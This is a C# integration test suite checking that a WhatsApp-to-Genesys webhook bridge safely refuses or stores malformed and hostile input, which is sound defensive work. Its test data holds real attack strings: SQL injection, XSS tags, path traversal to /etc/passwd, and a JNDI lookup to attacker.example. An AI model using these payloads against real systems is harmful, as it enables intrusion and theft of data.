using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using WhatsAppGenesys.Contracts.Security;
using WhatsAppGenesys.IntegrationTests.Inbound;
using WhatsAppGenesys.IntegrationTests.Tenancy;

namespace WhatsAppGenesys.IntegrationTests.Faults;

/// <summary>
/// Bad and hostile input at the WhatsApp webhook, beyond <see cref="WhatsAppWebhookTests"/>: refused with the right
/// 4xx and nothing queued, or — for hostile strings inside a genuine message — stored and forwarded verbatim and
/// harmlessly. No process may be harmed by any of it.
/// </summary>
public sealed class HostileInputTests(AppFixture fixture)
{
    private const string DemoAppSecret = MetaWebhooks.DemoAppSecret;
    private const string DemoPhoneNumberId = MetaWebhooks.DemoPhoneNumberId;
    // The sandbox demo tenant's public, fake integration (the simulators' default).
    private const string DemoIntegrationId = "8a5e2f4c-2b1d-4c8e-9f6a-3d7b1e0c5a92";

    private readonly Sandboxes _sandboxes = new(fixture);

    [Fact]
    public async Task InvalidUtf8IsRefusedWith400AndNothingReachesTheAgent()
    {
        var ct = TestContext.Current.CancellationToken;
        var processes = Processes();
        var customer = Sandboxes.NewCustomer();
        var (prefix, suffix) = SplitAtText(MetaWebhooks.TextWebhook(customer, DemoPhoneNumberId, $"wamid.utf8{Guid.NewGuid():N}", "caf\u00e9 PLACEHOLDER"), "PLACEHOLDER");
        // A truncated two-byte sequence, a byte that never occurs in UTF-8, and an overlong encoding of '/'.
        byte[] body = [.. Encoding.UTF8.GetBytes(prefix), 0xC3, 0x28, 0xFF, 0xC0, 0xAF, .. Encoding.UTF8.GetBytes(suffix)];

        using var response = await MetaWebhooks.PostAsync(fixture.Client("whatsapp-webhook"), body, DemoAppSecret, ct);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        await AssertNothingReachedTheAgentAsync(customer, DemoIntegrationId, ct);
        AssertUnharmed(processes);
    }

    [Fact]
    public async Task LoneSurrogateEscapeIsRefusedWith400NotWithA5xxMetaWouldRedeliverForDays()
    {
        var ct = TestContext.Current.CancellationToken;
        var processes = Processes();
        var customer = Sandboxes.NewCustomer();
        // Syntactically valid JSON whose string is not valid UTF-16: half an emoji, escaped.
        var body = MetaWebhooks.TextWebhook(customer, DemoPhoneNumberId, $"wamid.surrogate{Guid.NewGuid():N}", "half an emoji \\ud83d here");

        Assert.Equal(400, await _sandboxes.PostRawWebhookAsync(new { body }));

        await AssertNothingReachedTheAgentAsync(customer, DemoIntegrationId, ct);
        AssertUnharmed(processes);
    }

    [Fact]
    public async Task LoneSurrogateInAGenesysWebhookIsRefusedWith400NotWithA5xxGenesysWouldRetry()
    {
        var processes = Processes();
        var id = Guid.NewGuid().ToString("N");
        var body = $$$"""{"id":"{{{id}}}","type":"Text","text":"half an emoji \ud83d here","direction":"Outbound","channel":{"id":"{{{DemoIntegrationId}}}","platform":"Open","type":"Private","to":{"id":"+15550000000","idType":"Phone"},"from":{"id":"{{{DemoIntegrationId}}}","idType":"Opaque"},"time":"2026-01-01T00:00:00.000Z","messageId":"{{{id}}}"}}""";

        Assert.Equal(400, await new Outbound.AgentDesk(fixture).PostRawWebhookAsync(body));
        AssertUnharmed(processes);
    }

    [Fact]
    public async Task ValidSignatureOfAnotherTenantCannotPostForThisTenant()
    {
        var ct = TestContext.Current.CancellationToken;
        var processes = Processes();
        var other = await CreateTenantWithMetaBusinessAsync(ct);

        // Control: the other tenant's own customers reach the other tenant's agents, so its secret and number are live.
        var ownCustomer = Sandboxes.NewCustomer();
        await _sandboxes.CustomerSendsAsync(ownCustomer, new { type = "text", text = "to my own business", phoneNumberId = other.PhoneNumberId });
        Assert.Equal("to my own business", await WaitForTextAsync(ownCustomer, other.IntegrationId, ct));

        // A body for the demo tenant's number, signed correctly — with the other tenant's app secret.
        var victim = Sandboxes.NewCustomer();
        var forged = MetaWebhooks.TextWebhook(victim, DemoPhoneNumberId, $"wamid.forged{Guid.NewGuid():N}", "forged for the demo tenant");
        Assert.Equal(401, await _sandboxes.PostRawWebhookAsync(new { body = forged, appSecret = other.AppSecret }));

        // The same, smuggled next to a genuine change of the other tenant in one webhook: every tenant's secret must match.
        var smuggled = TwoTenantWebhook(
            (other.PhoneNumberId, Sandboxes.NewCustomer(), "genuine part"),
            (DemoPhoneNumberId, victim, "smuggled part"));
        Assert.Equal(401, await _sandboxes.PostRawWebhookAsync(new { body = smuggled, appSecret = other.AppSecret }));

        await AssertNothingReachedTheAgentAsync(victim, DemoIntegrationId, ct);
        AssertUnharmed(processes);
    }

    [Fact]
    public async Task StaleSignatureReplayedOnAnotherBodyIsRefusedAndAnExactReplayIsDeliveredOnce()
    {
        var ct = TestContext.Current.CancellationToken;
        var processes = Processes();
        var customer = Sandboxes.NewCustomer();
        var original = MetaWebhooks.TextWebhook(customer, DemoPhoneNumberId, $"wamid.orig{Guid.NewGuid():N}", "the genuine message");
        var signature = WebhookSignatures.SignMeta(Encoding.UTF8.GetBytes(original), DemoAppSecret);

        Assert.Equal(200, await _sandboxes.PostRawWebhookAsync(new { body = original, signature }));
        Assert.Equal("the genuine message", await WaitForTextAsync(customer, DemoIntegrationId, ct));

        // A captured signature on a new body (another message id, another text): refused.
        var tampered = MetaWebhooks.TextWebhook(customer, DemoPhoneNumberId, $"wamid.tamper{Guid.NewGuid():N}", "the attacker's message");
        Assert.Equal(401, await _sandboxes.PostRawWebhookAsync(new { body = tampered, signature }));
        // The exact bytes again: indistinguishable from Meta's own redelivery, so accepted — and shown only once.
        Assert.Equal(200, await _sandboxes.PostRawWebhookAsync(new { body = original, signature }));

        await Task.Delay(TimeSpan.FromSeconds(3), ct);
        var received = await _sandboxes.AgentReceivedAsync(customer);
        Assert.Equal(["the genuine message"], received.Select(Sandboxes.Text));
        AssertUnharmed(processes);
    }

    public static TheoryData<string> HostileTexts =>
    [
        "Robert'); DROP TABLE message_tracking; --",
        "' OR '1'='1' /* \" OR \"\"=\" */ ; SELECT pg_sleep(10);",
        "<script>alert(document.cookie)</script><img src=x onerror=alert(1)><svg/onload=alert(2)>",
        "../../../../etc/passwd ..\\..\\..\\windows\\win.ini %2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "{{7*7}} ${jndi:ldap://attacker.example/a} %s%s%s%n \u0000 \u202Egnp.exe \u200B",
        "emoji 👩‍👩‍👧‍👦 and CJK 漢字 and RTL שלום, a tab\tand\r\nlines \"quoted\" \\ back\\slash",
    ];

    [Theory]
    [MemberData(nameof(HostileTexts))]
    public async Task HostileTextReachesTheAgentByteForByte(string text)
    {
        var ct = TestContext.Current.CancellationToken;
        var customer = Sandboxes.NewCustomer();

        await _sandboxes.CustomerSendsAsync(customer, new { type = "text", text, profileName = text });

        Assert.Equal(text, await WaitForTextAsync(customer, DemoIntegrationId, ct));
        var conversation = await _sandboxes.ConversationAsync(customer);
        Assert.Equal(text, conversation!["customer"]!["nickname"]?.GetValue<string>());
        // Stored as given too (but for NUL, which PostgreSQL text cannot hold): the state manager keeps the profile
        // name with the customer's conversation.
        using var state = fixture.App.CreateHttpClient("state-manager");
        state.DefaultRequestHeaders.Add("X-Tenant-ID", "demo");
        var mapping = await state.GetFromJsonAsync<JsonObject>($"/state/mapping/{customer}", ct);
        Assert.Equal(text.Replace("\0", "", StringComparison.Ordinal), mapping!["contactName"]?.GetValue<string>());
    }

    [Fact]
    public async Task HostileMediaFileNamesAndIdsAreForwardedVerbatimAndStoredInsideTheirFolder()
    {
        var ct = TestContext.Current.CancellationToken;
        var processes = Processes();
        var customer = Sandboxes.NewCustomer();
        var file = Convert.ToBase64String("%PDF-1.4 not really"u8.ToArray());
        var cases = new[]
        {
            (Filename: "../../../../etc/passwd", Mime: "application/octet-stream", Wamid: $"wamid.{Guid.NewGuid():N}"),
            (Filename: "..\\..\\boot.ini;.pdf", Mime: "application/pdf", Wamid: $"wamid.{Guid.NewGuid():N}"),
            (Filename: "<script>alert(1)</script>.sh", Mime: "text/x-sh", Wamid: $"wamid.{Guid.NewGuid():N}/../../../../escaped"),
        };

        foreach (var (filename, mime, wamid) in cases)
        {
            await _sandboxes.CustomerSendsAsync(customer, new
            {
                type = "document",
                wamid,
                media = new { base64 = file, mimeType = mime, filename, caption = $"caption of {filename}" },
            });
        }

        var received = await _sandboxes.WaitForAgentMessagesAsync(customer, cases.Length, TimeSpan.FromSeconds(60));
        foreach (var (message, (filename, _, wamid)) in received.Zip(cases))
        {
            Assert.Equal(wamid, Sandboxes.ChannelMessageId(message));
            Assert.Equal($"caption of {filename}", Sandboxes.Text(message));
            var attachment = message["content"]![0]!["attachment"]!;
            Assert.Equal(filename, attachment["filename"]!.GetValue<string>());
            Assert.True(message["content"]![0]!["fetch"]!["succeeded"]!.GetValue<bool>(), "Genesys could not fetch the document");

            // The copy in our bucket: {tenant}/documents/{date}/{one safe segment}, nothing climbing out of it.
            var key = Uri.UnescapeDataString(new Uri(attachment["url"]!.GetValue<string>()).AbsolutePath).TrimStart('/');
            var segments = key.Split('/');
            Assert.True(segments is ["media-inbound", "demo", "documents", _, _], $"Unexpected storage key {key}");
            Assert.DoesNotContain("..", segments[^1].Split('.'), StringComparer.Ordinal);
            Assert.Contains(key["media-inbound/".Length..], await fixture.ListS3KeysAsync("media-inbound", $"demo/documents/{segments[3]}/"));
        }
        // Nothing landed outside the tenant folders at either bucket's root.
        foreach (var bucket in new[] { "media-inbound", "webhooks-inbound" })
        {
            Assert.Empty(await fixture.ListS3KeysAsync(bucket, "etc/"));
            Assert.Empty(await fixture.ListS3KeysAsync(bucket, "../"));
            Assert.Empty(await fixture.ListS3KeysAsync(bucket, "escaped"));
        }
        AssertUnharmed(processes);
    }

    // ---- helpers ----

    private Dictionary<string, IReadOnlyList<int>> Processes() =>
        new[] { "whatsapp-webhook", "genesys-webhook", "inbound-transformer", "outbound-transformer", "state-manager", "genesys-api" }
            .ToDictionary(s => s, fixture.App.GetProcessIds);

    /// <summary>The same processes still run and still answer: nothing crashed or was restarted.</summary>
    private void AssertUnharmed(Dictionary<string, IReadOnlyList<int>> before)
    {
        foreach (var (service, pids) in before)
        {
            Assert.Equal(pids, fixture.App.GetProcessIds(service));
        }
    }

    private async Task<TestTenant> CreateTenantWithMetaBusinessAsync(CancellationToken ct)
    {
        var tenant = await new TenancyHarness(fixture).CreateTenantAsync(ct);
        using var response = await fixture.Client("meta-sandbox").PostAsJsonAsync("/sandbox/businesses", new
        {
            wabaId = "9" + tenant.PhoneNumberId,
            phoneNumberIds = new[] { tenant.PhoneNumberId },
            displayPhoneNumber = "+15550100000",
            accessToken = tenant.AccessToken,
            appSecret = tenant.AppSecret,
            verifyToken = "unused",
            webhookUrl = new Uri(fixture.App.GetEndpoint("whatsapp-webhook"), "/webhook/whatsapp").ToString(),
        }, ct);
        response.EnsureSuccessStatusCode();
        return tenant;
    }

    private async Task<string> WaitForTextAsync(string customer, string integrationId, CancellationToken ct)
    {
        var deadline = DateTime.UtcNow.AddSeconds(60);
        while (true)
        {
            using var response = await fixture.Client("genesys-sandbox").GetAsync(
                $"/sandbox/conversations/lookup?customerId={customer}&integrationId={integrationId}", ct);
            if (response.IsSuccessStatusCode
                && (await response.Content.ReadFromJsonAsync<JsonObject>(ct))!["messages"]!.AsArray()
                    .FirstOrDefault(m => m!["direction"]!.GetValue<string>() == "Inbound") is { } message)
            {
                return message["text"]!.GetValue<string>();
            }
            Assert.True(DateTime.UtcNow < deadline, $"Nothing from {customer} reached integration {integrationId}.");
            await Task.Delay(250, ct);
        }
    }

    private async Task AssertNothingReachedTheAgentAsync(string customer, string integrationId, CancellationToken ct)
    {
        await Task.Delay(TimeSpan.FromSeconds(2), ct);
        using var response = await fixture.Client("genesys-sandbox").GetAsync(
            $"/sandbox/conversations/lookup?customerId={customer}&integrationId={integrationId}", ct);
        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
    }

    private static (string Prefix, string Suffix) SplitAtText(string body, string marker)
    {
        var at = body.IndexOf(marker, StringComparison.Ordinal);
        return (body[..at], body[(at + marker.Length)..]);
    }

    private static string TwoTenantWebhook(params (string PhoneNumberId, string Customer, string Text)[] parts) =>
        MetaWebhooks.Webhook(parts.Select(p => MetaWebhooks.Change(p.PhoneNumberId, p.Customer, $"wamid.{Guid.NewGuid():N}", p.Text)));
}
